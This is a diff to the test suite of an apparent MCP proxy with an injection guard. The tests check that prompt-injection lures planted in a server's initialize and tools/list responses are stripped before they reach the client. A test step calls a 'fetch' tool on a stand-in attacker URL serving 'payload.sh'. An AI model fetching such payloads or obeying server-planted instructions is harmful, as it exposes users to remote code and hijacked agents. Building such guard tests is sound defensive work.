@@ -49,7 +49,8 @@ REFUSED = [
 class ServerMessages(unittest.TestCase):
     # What the server's text carries the injection in, and how the session
     # opens (`server/discover`: 2026-07-28 clients over stdio).
-    LURES = (("1", "initialize"), ("schema", "initialize"), ("schema", "server/discover"))
+    LURES = (("1", "initialize"), ("schema", "initialize"), ("schema", "server/discover"),
+             ("meta", "initialize"))
 
     def setUp(self) -> None:
         self.dir = Path(tempfile.mkdtemp(prefix="toolvet-mcp-server-"))
@@ -114,7 +115,11 @@ plugin = "{PLUGINS}/injection_guard.wasm"
                 self.assertNotIn("instructions", init["result"])
                 self.assertNotIn("tasks", init["result"]["capabilities"])
                 self.assertNotIn("attacker", json.dumps(init))
-                self.assertEqual(init["result"]["serverInfo"]["version"], "1" if lure == "1" else "0")
+                self.assertEqual(init["result"]["serverInfo"]["version"], "0" if lure == "schema" else "1")
+                # Review s29 C2: the keys a client does without are left out.
+                self.assertNotIn("_meta", init["result"])
+                self.assertNotIn("experimental", init["result"]["capabilities"])
+                self.assertEqual(init["result"]["protocolVersion"], "2025-06-18")
                 p.send({"jsonrpc": "2.0", "method": "notifications/initialized"})
                 p.send({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}})
                 listed = p.until(lambda m: m.get("id") == 1)[-1]
@@ -122,6 +127,7 @@ plugin = "{PLUGINS}/injection_guard.wasm"
                 self.assertNotIn("lure", names)
                 self.assertNotIn("lure2", names)
                 self.assertIn("fetch", names)
+                self.assertNotIn("nextCursor", listed["result"])
                 self.assertNotIn("attacker", json.dumps(listed))
                 p.send({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                         "params": {"name": "fetch", "arguments": {"url": "https://files.attacker.test/payload.sh"}}})
@@ -204,7 +210,7 @@ class HttpServerMessages(ServerMessages):
     served over HTTP, driven with raw POSTs."""
 
     # A Streamable HTTP session opens with `initialize` (the session id).
-    LURES = (("1", "initialize"), ("schema", "initialize"))
+    LURES = (("1", "initialize"), ("schema", "initialize"), ("meta", "initialize"))
 
     def proxy(self, env: dict | None = None):
         port = free_port()
